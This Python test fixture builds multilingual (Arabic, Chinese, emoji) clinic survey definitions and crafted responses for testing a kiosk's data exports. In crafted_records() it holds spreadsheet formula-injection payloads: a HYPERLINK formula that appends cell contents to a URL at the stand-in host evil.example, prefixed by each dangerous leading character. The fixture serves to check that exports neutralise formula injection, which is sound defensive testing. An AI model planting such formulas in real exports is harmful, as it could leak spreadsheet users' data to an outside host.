"""Crafted surveys and responses for the export tests: injections, Arabic, Chinese, emoji, versions."""

from __future__ import annotations

import copy
import json
import uuid
from pathlib import Path
from typing import Any

from kiosk.survey import Survey, parse_survey

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
ARABIC = "الانتظار كان طويلاً جداً"
CHINESE = "护士非常友好"
EMOJI = "Thanks 👍🏽😀"


def text(en: str, ar: str | None = None, zh: str | None = None) -> dict[str, str]:
    return {"en": en, "ar": ar or f"{en} (ar)", "zh": zh or f"{en} (zh)"}


def survey_v1() -> dict[str, Any]:
    return {
        "id": "clinic-test",
        "version": 1,
        "languages": ["en", "ar", "zh"],
        "title": text("Clinic test"),
        "welcome": text("Welcome"),
        "thank_you": text("Thank you"),
        "questions": [
            {
                "id": "overall",
                "type": "rating",
                "text": text("Overall?", "بشكل عام؟", "总体如何？"),
                "labels": [
                    text("Very bad"),
                    text("Bad"),
                    text("Okay"),
                    text("Good", "جيد", "好"),
                    text("Very good", "جيد جدا", "很好"),
                ],
            },
            {
                "id": "topics",
                "type": "multiple_choice",
                "text": text("What mattered?", "ما الذي يهم؟", "什么重要？"),
                "options": [
                    {"value": "staff", "label": text("Staff", "الموظفون", "员工")},
                    {"value": "wait", "label": text("=Waiting time", "وقت الانتظار", "等待时间")},
                    {"value": "cost", "label": text("@Cost", "التكلفة", "+费用")},
                ],
            },
            {
                "id": "recommend",
                "type": "likelihood",
                "text": text("Recommend us?"),
                "min_label": text("Not at all likely"),
                "max_label": text("Extremely likely"),
            },
            {"id": "returning", "type": "yes_no", "text": text("Been here before?")},
            {"id": "why", "type": "text", "text": text("Why?", "لماذا؟", "为什么？")},
        ],
    }


def survey_v2() -> dict[str, Any]:
    """v2 asks about parking between topics and recommend."""
    data = copy.deepcopy(survey_v1())
    data["version"] = 2
    parking = {
        "id": "parking",
        "type": "single_choice",
        "text": text("Parking?", "موقف السيارات؟", "停车？"),
        "options": [
            {"value": "easy", "label": text("Easy", "سهل", "容易")},
            {"value": "hard", "label": text("-Hard", "صعب", "难")},
        ],
    }
    data["questions"].insert(2, parking)
    return data


def surveys() -> dict[tuple[str, int], Survey]:
    parsed = [parse_survey(survey_v1()), parse_survey(survey_v2())]
    return {s.key: s for s in parsed}


def resolver(survey_id: str, version: int) -> Survey | None:
    return SURVEYS.get((survey_id, version))


SURVEYS = surveys()


def record(
    answers: dict[str, Any],
    *,
    version: int = 1,
    language: str = "en",
    status: str = "completed",
    submitted_at: str = "2026-11-27T10:01:10Z",
    channel: str = "kiosk",
    survey_id: str = "clinic-test",
) -> dict[str, Any]:
    return {
        "id": str(uuid.uuid4()),
        "survey_id": survey_id,
        "survey_version": version,
        "kiosk_id": "front-desk-1",
        "channel": channel,
        "language": language,
        "started_at": submitted_at.replace("01:10Z", "00:00Z"),
        "submitted_at": submitted_at,
        "status": status,
        "answers": answers,
    }


def crafted_records() -> list[dict[str, Any]]:
    """One of each kind the exports must survive, oldest first."""
    records = [
        record(
            {"overall": 5, "topics": ["staff", "wait"], "recommend": 10, "returning": True, "why": EMOJI},
            submitted_at="2026-11-25T09:01:10Z",
        ),
        record(
            {"overall": 4, "topics": ["cost"], "returning": False, "why": ARABIC},
            language="ar",
            submitted_at="2026-11-26T09:01:10Z",
        ),
        record(
            {"overall": 2, "why": CHINESE},
            language="zh",
            status="partial",
            submitted_at="2026-11-26T23:59:59Z",
        ),
        record(
            {"overall": 3, "parking": "hard", "topics": ["wait"]},
            version=2,
            status="handed_off",
            channel="kiosk+phone",
            submitted_at="2026-11-27T00:00:00Z",
        ),
    ]
    for n, first in enumerate(DANGEROUS):
        payload = f'{first}HYPERLINK("https://evil.example/?"&A1,"click"),;=1+1'
        records.append(record({"why": payload, "recommend": n}, submitted_at="2026-11-28T10:01:10Z"))
    return records


def write_surveys(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for data in (survey_v1(), survey_v2()):
        path = folder / f"{data['id']}-v{data['version']}.json"
        path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
